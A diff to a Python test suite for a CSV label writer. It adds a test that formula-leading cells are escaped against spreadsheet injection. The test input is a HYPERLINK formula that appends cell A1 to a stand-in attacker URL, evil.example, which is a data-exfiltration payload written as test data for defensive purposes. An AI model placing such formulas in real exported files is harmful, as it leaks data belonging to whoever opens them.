@@ -1,5 +1,7 @@
 """The one label file: what is written reads back to the bit, and what is wrong is told by line and column."""
 
+import csv
+import io
 import math
 from pathlib import Path
 
@@ -43,6 +45,17 @@ def labels(draw: st.DrawFn) -> Label:
         level=draw(st.none() | st.floats(allow_nan=False, allow_infinity=False)),
         note=draw(NOTE),
     )
+
+
+@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "'=", "''@", "'"])
+def test_no_cell_is_a_formula_to_a_spreadsheet_and_each_reads_back_as_it_was_said(begins: str) -> None:
+    said = f'{begins}HYPERLINK("https://evil.example/"&A1)'
+    shown = said if said.isprintable() else "=what"
+    label = Label(what=shown, rater=shown, wearer="-w", note=said, start_s=0.0, end_s=0.0, level=-1.0)
+    text = write_labels([label])
+    for cell in next(csv.reader(io.StringIO(text.split("\n", 1)[1], newline=""))):
+        assert cell == "-1.0" or not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert read_labels(text) == [label]
 
 
 @given(given_labels=st.lists(labels(), max_size=5))
